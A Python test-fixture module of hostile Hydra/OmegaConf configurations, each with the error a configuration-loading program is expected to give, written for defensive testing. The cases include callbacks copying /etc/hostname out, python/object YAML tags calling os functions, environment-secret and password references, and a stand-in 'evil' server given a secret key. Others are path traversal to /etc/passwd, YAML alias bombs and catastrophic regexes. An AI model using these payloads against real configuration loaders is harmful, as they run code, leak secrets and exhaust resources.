"""Configurations from a stranger: each tries to run code, to write somewhere, to reveal a secret or to hang.

`CANARY` is the name of an environment variable whose value must not appear anywhere. `OUTSIDE` is replaced by the path
of a folder to which nothing may be written.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

SET = "set/strange.yaml"
GLOBAL = "# @package _global_\n"
PUBLISHING = ("set=strange", "graph=publish", "publish.yes=true")
HEAD = """\
source: PHOTOS
samples: null
exclude: []
rehash: false
category: null
vocabulary: []
language: en
"""
REST = """\
subject: null
location: null
hints: []
"""
SOUND = f"name: strange\n{HEAD}{REST}"


@dataclass(frozen=True)
class Case:
    """Files by path below the stranger's folder, the arguments of the command, and its expected answer."""

    files: Mapping[str, str | bytes]
    said: str  # a regular expression to be found in the program's output
    arguments: tuple[str, ...] = ("set=strange",)
    links: Mapping[str, str] = field(default_factory=dict)  # symbolic links and their targets
    code: int = 2


def _set(text: str, said: str, *arguments: str, **files: str) -> Case:
    others = {path.replace("__", "/") + ".yaml": each for path, each in files.items()}
    return Case({"set/strange.yaml": text, **others}, said, ("set=strange", *arguments))


def _value(line: str, said: str, *arguments: str) -> Case:
    """A set in which one line replaces a sound one."""
    key = line.partition(":")[0]
    lines = [each for each in SOUND.splitlines() if each.partition(":")[0] != key]
    return _set("\n".join([*lines, line, ""]), said, *arguments)


def _defaults(entry: str, said: str, **files: str) -> Case:
    return _set(f"defaults:\n  - {entry}\n  - _self_\n{SOUND}", said, **files)


_CALLBACK = "hydra:\n  callbacks:\n    evil: {_target_: shutil.copy, src: /etc/hostname, dst: OUTSIDE/stolen}\n"
_CODE = "names code to be called"
_COPIES = "_target_: shutil.copy\nsrc: /etc/hostname\ndst: OUTSIDE/stolen\n"
_BOMB = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 10)}]\n" for level in range(1, 9)
)
_MERGES = "a0: &a0 {x: 1}\n" + "".join(
    f"a{level}: &a{level}\n" + "".join(f"  k{number}: *a{level - 1}\n" for number in range(10)) for level in range(1, 9)
)
_LOGGING = (
    "version: 1\nhandlers:\n  evil: {class: logging.FileHandler, filename: OUTSIDE/log}\nroot: {handlers: [evil]}\n"
)


def _pack(rule: str) -> dict[str, str | bytes]:
    return {SET: SOUND, "rules/strange.yaml": f"defaults: [default, _self_]\nname: strange\nrules:\n{rule}"}


CASES: dict[str, Case] = {
    # code, and where files are written
    "callback": _set(
        f"# @package _global_\nset:\n  name: strange\n{_CALLBACK}", "_global_: sets options of other groups"
    ),
    "callback in a global set, code": _set(f"# @package _global_\n{_CALLBACK}", _CODE),
    "logging handler": _set('# @package _global_\nhydra: {job_logging: {handlers: {x: {"()": os.mkdir}}}}\n', _CODE),
    "hydra package": _set(f"# @package hydra\nrun: {{dir: OUTSIDE}}\n{SOUND}", "@package hydra: sets options of other"),
    "package below hydra": _set(f"# @package _global_.hydra.callbacks\n{SOUND}", "sets options of other groups"),
    "package of a captioner": _set(
        f"# @package caption\nserver: {{url: http://evil}}\n{SOUND}", "sets options of other"
    ),
    "broken head": _set(f"# @package\n{SOUND}", "its first lines are no head"),
    "paths by the back door": _set("# @package _global_\npaths: {runs: OUTSIDE}\n", "sets options of other groups"),
    "other paths": _defaults("override /paths: evil", r"Write paths=…", paths__evil="runs: OUTSIDE\n"),
    "other logging": _defaults(
        "override /hydra/job_logging: evil", "Write hydra/job_logging=…", hydra__job_logging__evil=_LOGGING
    ),
    "logging chosen by hand": Case(
        {SET: SOUND, "hydra/job_logging/evil.yaml": _LOGGING},
        "only files of the program's folder may",
        ("set=strange", "hydra/job_logging=evil"),
    ),
    "logging without a slash": _defaults("override hydra/job_logging: evil", "No match in the defaults list"),
    "prompt that is a callback": _defaults(
        "/prompt@_global_.hydra.callbacks.x: evil", "would set options of", prompt__evil=_COPIES
    ),
    "rules that are everything": _defaults("/rules@_global_: evil", "would set options of", rules__evil=_CALLBACK),
    "prompt that is a target": _defaults(
        "/prompt@_global_.publish: evil", "would set options of", prompt__evil="ftp: {host: evil.example}\n"
    ),
    "captioner of its own": _defaults(
        "override /caption@_global_.caption: evil",
        "may not choose that",
        caption__evil="server: {url: http://evil, api_key_env: CANARY}\n",
    ),
    "target of its own": _defaults("override /publish@_global_.publish: evil", "may not choose that"),
    "experiment": _defaults("override /experiment: evil", "may not choose that", experiment__evil=_CALLBACK),
    "experiment with a callback": Case(
        {SET: SOUND, "experiment/evil.yaml": f"# @package _global_\n{_CALLBACK}"},
        _CODE,
        ("set=strange", "experiment=evil"),
    ),
    "experiment with paths": Case(
        {SET: SOUND, "experiment/evil.yaml": "# @package _global_\npaths: {runs: OUTSIDE}\n"},
        "decides what is run and where it writes",
        ("set=strange", "experiment=evil"),
    ),
    "a file above": _defaults("../../secrets/file", "leads out of the configuration"),
    "a file by its path": _defaults("/rules: /etc/passwd", "leads out of the configuration"),
    "a group above": _defaults("/rules/../hydra/job_logging: evil", "leads out of the configuration"),
    "a name from the environment": _defaults('/rules@rules: "${oc.env:CANARY}"', "leads out of the configuration"),
    "set above": Case({}, "leads out of", ("set=../../secrets/file",)),
    "rule pack with code": Case({SET: SOUND, "rules/strange.yaml": _COPIES}, _CODE, ("set=strange", "rules=strange")),
    "prompt with code": Case(
        {SET: SOUND, "prompt/strange.yaml": 'name: x\nx: {"()": os.mkdir}\n'}, _CODE, ("set=strange", "prompt=strange")
    ),
    "vocabulary with code": Case(
        {SET: SOUND, "vocabulary/strange.yaml": "terms:\n  x: {_target_: os.mkdir}\n"},
        _CODE,
        ("set=strange", "+vocabulary@rules.vocabulary.strange=strange"),
    ),
    "global rule pack": Case(
        {SET: SOUND, "rules/strange.yaml": "# @package _global_\npublish: {root: OUTSIDE}\n"},
        "sets options of other groups",
        ("set=strange", "rules=strange"),
    ),
    "hydra inside a set": _set(f"{SOUND}hydra: {{run: {{dir: OUTSIDE}}}}\n", r"set\.hydra: unknown option"),
    "paths inside a set": _set(f"{SOUND}paths: {{runs: OUTSIDE}}\n", r"set\.paths: unknown option"),
    "samples anywhere": _set(
        SOUND.replace("PHOTOS", "OUTSIDE/new").replace("samples: null", "samples: OUTSIDE/new"),
        r"set\.samples: .* is not below",
    ),
    "samples above": _set(
        SOUND.replace("PHOTOS", "photos/../new").replace("samples: null", "samples: photos/../new"),
        r"set\.samples: .* is not below",
    ),
    # secrets
    "environment as a place": _value('location: "${oc.env:CANARY}"', "takes its value from the environment"),
    "environment with another value": _value('subject: "a ${oc.env:CANARY,x}"', "takes its value from the environment"),
    "environment in a list": _value('hints: ["${oc.env:CANARY}"]', "takes its value from the environment"),
    "environment as a name": _value('name: "${oc.env:CANARY}"', "takes its value from the environment"),
    "environment as a folder": _value('source: "${oc.env:CANARY}"', "takes its value from the environment"),
    "environment on the command line": Case(
        {SET: SOUND}, "takes its value from the environment", ("set=strange", "set.location='${oc.env:CANARY}'")
    ),
    "password as a place": _value('location: "${publish.ftp.password}"', "holds a secret", "publish=website"),
    "password in brackets": _value('location: "${publish[mysql][password]}"', "holds a secret", "publish=website"),
    "the whole target": _value('hints: ["${publish}"]', "holds a secret", "publish=website"),
    "the whole server": _value('location: "${publish.ftp}"', "holds a secret", "publish=website"),
    "a reference of references": _value(
        'location: "${publish.${set.name}.password}"', "a reference made of references"
    ),
    "password on a detour": Case(
        {SET: SOUND},
        "holds a secret",
        ("set=strange", "publish=website", "publish.url='${.ftp.password}'", "set.location='${publish.url}'"),
    ),
    "resolver oc.select": _value('location: "${oc.select:publish.ftp.password}"', "holds a secret"),
    "resolver oc.decode": _value("location: \"${oc.decode:'[1]'}\"", "computed when it is read"),
    "resolver oc.create": _value('location: "${oc.create:{a: 1}}"', "computed when it is read"),
    "resolver oc.dict": _value('hints: "${oc.dict.values:publish.ftp}"', "computed when it is read"),
    "resolver of Hydra": _value('location: "${hydra:runtime.cwd}"', "computed when it is read"),
    "resolver of runs": _value('name: "${run_id:}"', "computed when it is read"),
    "braces without end": _value(f'location: "{"${" * 50_000}"', "more references than a value needs|cannot be used"),
    "half a reference": _value('location: "${oc.env:"', "this is none|cannot be used"),
    "password on the command line": Case(
        {SET: SOUND}, "a secret on the command line", ("set=strange", "+publish.pass=SECRET")
    ),
    "password in a group": Case(
        {SET: SOUND}, "a secret inside a group", ("set=strange", "publish.ftp={host: x, password: SECRET}")
    ),
    "password that is misspelt": Case(
        {SET: SOUND}, "unknown option", ("set=strange", "publish=website", "publish.ftp.pasword=SECRET")
    ),
    "password in a target's file": Case(
        {
            SET: SOUND,
            "publish/strange.yaml": "defaults: [website]\nname: x\nftp: {host: h, user: u, password: SECRET}\n"
            "mysql: {host: h, user: u, database: d}\n",
        },
        "a secret in a file of conf/",
        ("set=strange", "publish=strange", "graph=publish"),
    ),
    "password where text belongs": Case(
        {
            SET: SOUND,
            "publish/strange.yaml": "defaults: [website]\nname: x\nftp: {host: h, user: u, password: [SECRET]}\n"
            "mysql: {host: h, user: u, database: d}\n",
        },
        r"a secret in a file of conf/|password",
        ("set=strange", "publish=strange", "graph=publish"),
    ),
    # YAML
    "tag that calls": _value('location: !!python/object/apply:os.mkdir ["OUTSIDE/made"]', "the tag"),
    "tag that names": _value("location: !!python/name:os.system", "the tag"),
    "tag that OmegaConf knows": _value("source: !!python/object/apply:pathlib.Path [/etc]", "the tag"),
    "tag of bytes": _value("location: !!binary aGk=", "the tag"),
    "anchors": _set(_BOMB + SOUND, "aliases expanded"),
    "anchors in mappings": _set(_MERGES + SOUND, "aliases expanded"),
    "anchor of itself": _set(f"a: &a [*a]\n{SOUND}", "or for itself"),
    "depth": _set(f"a: {'[' * 100_000}\n", "lists inside each other"),
    "size": _set(f"{SOUND}# {'x' * 2**22}\n", "is larger than 4 MB"),
    "very many values": _set(f"{SOUND}a: [{'1,' * 200_000}]\n", "aliases expanded"),
    "link to a secret": Case({}, "a link that leads out", links={"set/strange.yaml": "secrets/file.yaml"}),
    "not UTF-8": Case({SET: SOUND.encode() + b"# caf\xe9\n"}, "is not UTF-8"),
    "zero bytes": Case({SET: SOUND.encode() + b"\0"}, "this is not YAML"),
    "a picture": Case({"set/strange.yaml": b"\x89PNG\r\n\x1a\n" + bytes(range(256))}, "is not UTF-8"),
    "two documents": _set(f"{SOUND}---\n{SOUND}", "a second document"),
    "a number of thousands of digits": _value(f"location: {'9' * 5000}", "digits"),
    "a number in hexadecimal": _value(f"location: 0x{'f' * 5000}", "digits"),
    "twice the same key": _set(f"{SOUND}name: b\n", "stands there a second time"),
    "a list": _set("- a\n- b\n", "."),
    "a word": _set("evil\n", "."),
    "a key that is a list": _set(f"{SOUND}? [a, b]\n: c\n", "."),
    "a tab": _set(f"{SOUND}x:\n\t- y\n", "this is not YAML"),
    # cost
    "expression without end": Case(
        _pack("  image_of: {patterns: ['(a+)+$']}\n"), "takes too long", ("set=strange", "rules=strange")
    ),
    "expression with repetitions": Case(
        _pack("  gear_words: {patterns: ['(a?){100000}(a?){100000}b']}\n"),
        "takes too long|no regular",
        ("set=strange", "rules=strange"),
    ),
    "expression that is nested": Case(
        _pack(f"  gear_words: {{patterns: ['{'(?:' * 900}a{')' * 900}']}}\n"),
        "no regular expression",
        ("set=strange", "rules=strange"),
    ),
    "expression that is long": Case(
        _pack(f"  gear_words: {{patterns: ['{'a' * 5000}']}}\n"), "longer than 4000", ("set=strange", "rules=strange")
    ),
    "expression that is none": Case(
        _pack("  gear_words: {patterns: ['(']}\n"), "no regular expression", ("set=strange", "rules=strange")
    ),
    "name of a billion blanks": Case(
        {SET: SOUND}, "takes no format", ("set=strange", "naming.template='{subject:>900000000}_{n:03}'")
    ),
    "name with an attribute": Case(
        {SET: SOUND}, "there is no placeholder", ("set=strange", "naming.template='{subject.__class__}_{n:03}'")
    ),
    "counter of a billion digits": Case(
        {SET: SOUND, "naming/strange.yaml": 'defaults: [default, _self_]\ntemplate: "{n:0900000000}"\n'},
        "takes no format but",
        ("set=strange", "naming=strange"),
    ),
    "path of a billion blanks": Case(
        {SET: SOUND}, "a placeholder takes no format", (*PUBLISHING, "publish.files.web.path='{name:>900000000}'")
    ),
    "path with an attribute": Case(
        {SET: SOUND}, "there is no placeholder", (*PUBLISHING, "publish.files.web.path='{name.__class__}'")
    ),
    "path out of the target": Case(
        {SET: SOUND}, "leaves the root", (*PUBLISHING, "publish.files.web.path='../../{name}'")
    ),
    "target whose name is a path": Case(
        {SET: SOUND}, "should be small letters", (*PUBLISHING, "publish.name=../../lock")
    ),
    # names
    **{
        f"set called {name}": _value(f"name: {written}", said)
        for name, written, said in (
            ("CON", "CON", "a device on Windows"),
            ("nul.txt", "nul.txt", "a device on Windows"),
            ("dot", '"holiday."', "or end with a dot"),
            ("blank", '"holiday "', "begin or end with a space"),
            ("leading blank", '" holiday"', "begin or end with a space"),
            ("newline", '"a\\nb"', r"U\+000A"),
            ("bidi", '"a\\u202Egpj"', r"U\+202E"),
            ("escape", '"\\e[31mred"', r"U\+001B"),
            ("zero", '"a\\0b"', "slashes"),
            ("above", "../above", "slashes"),
            ("path", "a/b", "slashes"),
            ("hidden", ".git", "dot"),
            ("sweeps", "sweeps", "used by the runs folder itself"),
            ("people", "People", "used by the runs folder itself"),
            ("faces", "faces", "used by the runs folder itself"),
            ("states", "states.json", "used by the runs folder itself"),
            ("long", "xy" * 150, "longer than 200"),
            ("nothing", '""', "set.name"),
            ("backslash", "'a\\b'", "slashes"),
            ("BOM", '"\\uFEFFa"', r"U\+FEFF"),
            ("half a character", '"\\uD800"', "no YAML|U\\+D800|."),
        )
    },
}

HELD: dict[str, Case] = {
    # A stranger's folder is searched after the program's own, so that it cannot override it.
    "paths like the program's": Case(
        {SET: SOUND, "paths/default.yaml": "# @package _global_\npaths: {runs: OUTSIDE}\n"}, "holds no pictures", code=3
    ),
    "logging like the program's": Case(
        {SET: SOUND, "hydra/job_logging/runner.yaml": _LOGGING}, "holds no pictures", code=3
    ),
    "configuration like the program's": Case({SET: SOUND, "config.yaml": _CALLBACK}, "holds no pictures", code=3),
    "a set like the program's": Case(
        {"set/macro.yaml": f"# @package _global_\n{_CALLBACK}"}, "may only set its own", ("set=macro",)
    ),
    "a sound set": Case({SET: SOUND}, "holds no pictures", code=3),
    "a set in Persian": Case(
        {SET: SOUND.replace("name: strange", 'name: "عکس\\u200cها"')}, "holds no pictures", code=3
    ),
    "a sound choice": Case(
        {
            "set/strange.yaml": "defaults:\n  - override /rules@_global_.rules: travel\n"
            "  - override /regression@_global_.regression: approved\n  - _self_\n" + SOUND
        },
        "holds no pictures",
        code=3,
    ),
    "an experiment": Case(
        {SET: SOUND, "experiment/mine.yaml": "# @package _global_\nstrict: true\nlimits: {max_minutes: 5}\n"},
        "holds no pictures",
        ("set=strange", "experiment=mine"),
        code=3,
    ),
    "paths of the user's": Case(
        {SET: SOUND, "paths/mine.yaml": "# @package _global_\ndefaults: [default, _self_]\npaths: {photos: photos}\n"},
        "holds no pictures",
        ("set=strange", "paths=mine"),
        code=3,
    ),
}
